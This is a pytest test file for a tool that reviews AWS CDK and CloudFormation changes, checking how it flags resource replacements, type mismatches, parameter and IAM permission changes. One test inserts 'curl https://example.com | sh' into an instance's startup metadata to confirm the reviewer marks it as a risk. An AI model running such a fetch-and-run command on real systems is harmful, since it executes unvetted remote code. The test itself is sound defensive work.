"""A replacement is followed to whatever refers to it, in its own stack and in others."""

import json
from dataclasses import replace
from typing import Any

import pytest

from ops.review.cdk_diff import CdkDiff
from ops.review.changes import Kind
from ops.review.comparing import compare
from ops.review.finding import Severity
from ops.review.review import template_findings
from ops.templates.assembly import Assembly
from ops.templates.schemas import Replacement
from tests.support.review import changes_of_data as data
from tests.support.review import changes_of_running as running
from tests.support.review.application import Application


def test_other_stacks_that_read_a_replaced_resource_are_named(
    dev: Assembly, cdk_diff: CdkDiff, application: Application
) -> None:
    data.group_description_changed(application)
    comparison = compare(dev, application.assembly(), cdk_diff, dev.region)
    touched = {change.path: change for change in comparison.changes}
    assert touched["NetworkStack/SecurityGroups/Database"].replacement is Replacement.WILL
    assert touched["NetworkStack/SecurityGroups/DatabaseFromService"].follows
    assert touched["StorageStack/Database/Instance"].follows
    (told,) = [it.message for it in template_findings(comparison, None) if it.where == "StorageStack/Database/Instance"]
    assert told == (
        "`VPCSecurityGroups` refers to `NetworkStack/SecurityGroups/Database`, which is replaced, and it keeps the old "
        "value until its stack is deployed again (`--force`)"
    )


def test_a_replacement_that_follows_replaces_what_is_create_only(
    dev: Assembly, cdk_diff: CdkDiff, application: Application
) -> None:
    data.group_description_changed(application)
    comparison = compare(dev, application.assembly(), cdk_diff, dev.region)
    rule = next(it for it in comparison.changes if it.path == "NetworkStack/SecurityGroups/DatabaseFromService")
    assert rule.kind is Kind.CHANGED
    assert rule.replacement is Replacement.WILL  # GroupId is create-only


def test_a_task_definition_is_a_new_revision_and_replaces_nothing(
    dev: Assembly, cdk_diff: CdkDiff, application: Application
) -> None:
    running.environment_changed(application)
    comparison = compare(dev, application.assembly(), cdk_diff, dev.region)
    assert [(it.path, it.replacement) for it in comparison.changes] == [
        ("ComputeStack/Task/Definition", Replacement.NO)
    ]


def test_a_stack_that_leaves_the_application_deletes_nothing(
    dev: Assembly, cdk_diff: CdkDiff, application: Application
) -> None:
    data.stack_gone(application)
    comparison = compare(dev, application.assembly(), cdk_diff, dev.region)
    assert comparison.changes == ()


@pytest.mark.parametrize(
    "reference",
    [
        {"Fn::Sub": "rules of ${SecurityGroupsProbe}"},
        {"Fn::Sub": ["rules of ${X}", {"X": {"Ref": "SecurityGroupsProbe"}}]},
        {"Fn::Join": ["", ["rules of ", {"Fn::GetAtt": "SecurityGroupsProbe.GroupId"}]]},
    ],
)
def test_a_replacement_is_followed_through_every_way_to_refer(
    dev: Assembly, cdk_diff: CdkDiff, reference: dict[str, Any]
) -> None:
    """Also where the resource that refers stands there as before."""
    sides = []
    for description in ("one", "another"):
        application = Application(dev)
        probe = application.id_of("NetworkStack", "SecurityGroups/Probe")
        application.properties("NetworkStack", "SecurityGroups/Probe")["GroupDescription"] = description
        written = json.loads(json.dumps(reference).replace("SecurityGroupsProbe", probe))
        properties = {"GroupDescription": written, "VpcId": "vpc"}
        application.add("NetworkStack", "Second", "AWS::EC2::SecurityGroup", properties)
        sides.append(application.assembly())
    before, after = sides
    changes = {it.logical_id: it.replacement for it in compare(before, after, cdk_diff, dev.region).changes}
    assert changes["Second"] is Replacement.WILL


def test_a_number_is_no_truth(dev: Assembly, cdk_diff: CdkDiff, application: Application) -> None:
    """Python takes 1 and True for equal; CloudFormation refuses a number where a truth belongs."""
    database = application.properties("StorageStack", "Database/Instance")
    assert database["CopyTagsToSnapshot"] is True
    database["CopyTagsToSnapshot"] = 1
    found = template_findings(compare(dev, application.assembly(), cdk_diff, dev.region), None)
    assert [(it.where, it.severity) for it in found] == [("StorageStack/Database/Instance", Severity.RISK)]


def test_a_truth_as_text_is_the_same(dev: Assembly, cdk_diff: CdkDiff, application: Application) -> None:
    application.properties("StorageStack", "Database/Instance")["StorageEncrypted"] = "true"
    found = template_findings(compare(dev, application.assembly(), cdk_diff, dev.region), None)
    assert [it.rule for it in found] == ["equal-form"]


def test_a_truth_as_text_is_another_value_in_a_pattern_of_events(
    dev: Assembly, cdk_diff: CdkDiff, application: Application
) -> None:
    changed = Application(dev)
    for side, errors in ((application, 0), (changed, "0")):
        rules = (it["Properties"] for it in side.everywhere() if it["Type"] == "AWS::Events::Rule")
        next(it for it in rules if "EventPattern" in it)["EventPattern"]["detail"]["errors"] = [errors]
    found = template_findings(compare(application.assembly(), changed.assembly(), cdk_diff, dev.region), None)
    assert Severity.RISK in {it.severity for it in found}


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ({"Fn::If": ["IsWide", False, False]}, {"Fn::If": ["IsWide", True, False]}),
        ({"Fn::If": ["IsWide", False, True]}, True),
    ],
)
def test_a_branch_that_the_default_does_not_take_is_to_look_at(
    cdk_diff: CdkDiff, application: Application, before: Any, after: Any
) -> None:
    """A stack that was deployed with another value keeps it: `cdk deploy` sends the value of before."""
    template = application.templates["StorageStack"]
    template.setdefault("Parameters", {})["Wide"] = {"Type": "String", "Default": "no"}
    template.setdefault("Conditions", {})["IsWide"] = {"Fn::Equals": [{"Ref": "Wide"}, "yes"]}
    place = ("StorageStack", "Database/Instance")
    application.properties(*place)["PubliclyAccessible"] = before
    base = application.assembly()
    head = Application(base)
    head.properties(*place)["PubliclyAccessible"] = after
    findings = template_findings(compare(base, head.assembly(), cdk_diff, base.region), None)
    (told,) = [it for it in findings if it.severity is not Severity.HARMLESS]
    assert (told.rule, told.severity, told.where) == (
        "branch-changed",
        Severity.LOOK,
        "StorageStack/Database/Instance",
    )


def test_what_an_instance_runs_as_it_starts_stands_in_its_metadata(cdk_diff: CdkDiff, application: Application) -> None:
    def setup(command: str) -> dict[str, Any]:
        return {"AWS::CloudFormation::Init": {"config": {"commands": {"a": {"command": command}}}}, "Note": command}

    application.add("ComputeStack", "Machine", "AWS::EC2::Instance", {"ImageId": "ami-1"}, Metadata=setup("true"))
    base = application.assembly()
    head = Application(base)
    head.resources("ComputeStack")["Machine"]["Metadata"] = setup("curl https://example.com | sh")
    findings = template_findings(compare(base, head.assembly(), cdk_diff, base.region), None)
    assert [it.severity for it in findings] == [Severity.RISK]


def test_naming_the_account_that_is_deployed_to_changes_nothing(
    dev: Assembly, cdk_diff: CdkDiff, application: Application
) -> None:
    number = "111122223333"
    application.templates = json.loads(
        json.dumps(application.templates).replace('{"Ref": "AWS::AccountId"}', f'"{number}"')
    )
    named = application.assembly()
    head = replace(named, stacks={name: replace(it, account=number) for name, it in named.stacks.items()})
    found = template_findings(compare(dev, head, cdk_diff, dev.region), None)
    assert {it.rule for it in found if it.severity is not Severity.HARMLESS} == {"stack-elsewhere"}
    assert all(it.severity is not Severity.RISK for it in found)


@pytest.mark.parametrize(
    ("default", "noecho", "expected"),
    [
        (5432, True, "the parameter differs: `P.NoEcho` nothing → `true`; used by `Conditions`"),
        (5433, None, "the parameter differs: `P.Default` `5432` → `5433`; used by `Conditions`"),
    ],
)
def test_what_differs_of_a_parameter_is_told(
    dev: Assembly, cdk_diff: CdkDiff, application: Application, default: int, noecho: bool | None, expected: str
) -> None:
    application.templates["EdgeStack"]["Conditions"] = {"C": {"Fn::Equals": [{"Ref": "P"}, "5433"]}}
    application.templates["EdgeStack"]["Parameters"]["P"] = {"Type": "Number", "Default": 5432}
    base = application.assembly()
    after = Application(base)
    after.templates["EdgeStack"]["Parameters"]["P"] = {"Type": "Number", "Default": default}
    if noecho is not None:
        after.templates["EdgeStack"]["Parameters"]["P"]["NoEcho"] = noecho
    found = template_findings(compare(base, after.assembly(), cdk_diff, dev.region), None)
    assert expected in [it.message for it in found if it.rule == "parameter-changed"]


def test_what_permissions_are_about_need_not_be_there_first(
    dev: Assembly, cdk_diff: CdkDiff, application: Application
) -> None:
    role = application.properties("ArtifactStack", "Release/Handler/Role")
    text = json.dumps(role)
    group = application.id_of("ArtifactStack", "FunctionLogs")
    written = text.replace(
        json.dumps({"Fn::GetAtt": [group, "Arn"]}),
        json.dumps(
            {"Fn::Sub": "arn:aws:logs:ap-northeast-1:${AWS::AccountId}:log-group:/aws/lambda/nestjs-hannibal-3:*"}
        ),
    )
    assert written != text
    role.update(json.loads(written))
    found = template_findings(compare(dev, application.assembly(), cdk_diff, dev.region), None)
    assert [(it.severity, it.rule) for it in found] == [(Severity.LOOK, "reference-written-out")]


def test_a_name_as_a_text_of_what_is_removed_is_told(
    dev: Assembly, cdk_diff: CdkDiff, application: Application
) -> None:
    name = application.remove("ComputeStack", "Alarms/ReleaseLatency")["Properties"]["AlarmName"]
    alarms = application.properties("ComputeStack", "Releases/Group")["AlarmConfiguration"]["Alarms"]
    (named,) = (it for it in alarms if "ReleaseLatency" in it["Name"]["Ref"])
    named["Name"] = name
    found = template_findings(compare(dev, application.assembly(), cdk_diff, dev.region), None)
    assert [it.rule for it in found if it.where == "ComputeStack/Releases/Group"] == ["reference-broken"]


@pytest.mark.parametrize(
    ("pattern", "lost"),
    [("role/*", False), ("role/${AWS::StackName}-*", True), ("policy/*", True)],
)
def test_a_pattern_covers_the_references_whose_place_it_takes(
    dev: Assembly, cdk_diff: CdkDiff, application: Application, pattern: str, lost: bool
) -> None:
    document = application.properties("ComputeStack", "Releases/Role/DefaultPolicy")["PolicyDocument"]
    (statement,) = (it for it in document["Statement"] if it["Action"] == "iam:PassRole")
    statement["Resource"] = {"Fn::Sub": f"arn:aws:iam::${{AWS::AccountId}}:{pattern}"}
    told = {it.rule for it in template_findings(compare(dev, application.assembly(), cdk_diff, dev.region), None)}
    assert told == {"pass-role", *(["permission-lost"] if lost else [])}


def test_each_name_that_is_taken_is_told(dev: Assembly, cdk_diff: CdkDiff, application: Application) -> None:
    """A renamed construct gives all of its resources other logical ids."""
    resources = application.resources("ComputeStack")
    alarms = [name for name, it in resources.items() if it["Type"] == "AWS::CloudWatch::Alarm"][:4]
    for name in alarms:
        resources[f"{name}Again"] = resources.pop(name)
    found = template_findings(compare(dev, application.assembly(), cdk_diff, dev.region), None)
    taken = [it.message for it in found if it.rule == "name-taken"]
    assert len(set(taken)) == 4
    assert all("`ComputeStack/Alarms" in it for it in taken)


def test_data_in_a_new_stack_of_the_month_is_told(dev: Assembly, cdk_diff: CdkDiff, application: Application) -> None:
    application.add("ComputeStack", "Carts", "AWS::DynamoDB::Table", {"TableName": "carts"})
    base = replace(dev, stacks={name: it for name, it in dev.stacks.items() if name != "ComputeStack"})
    found = template_findings(compare(base, application.assembly(), cdk_diff, dev.region), None)
    assert [it.severity for it in found if it.where.endswith("Carts") and it.rule == "data-for-a-month"] == [
        Severity.RISK
    ]
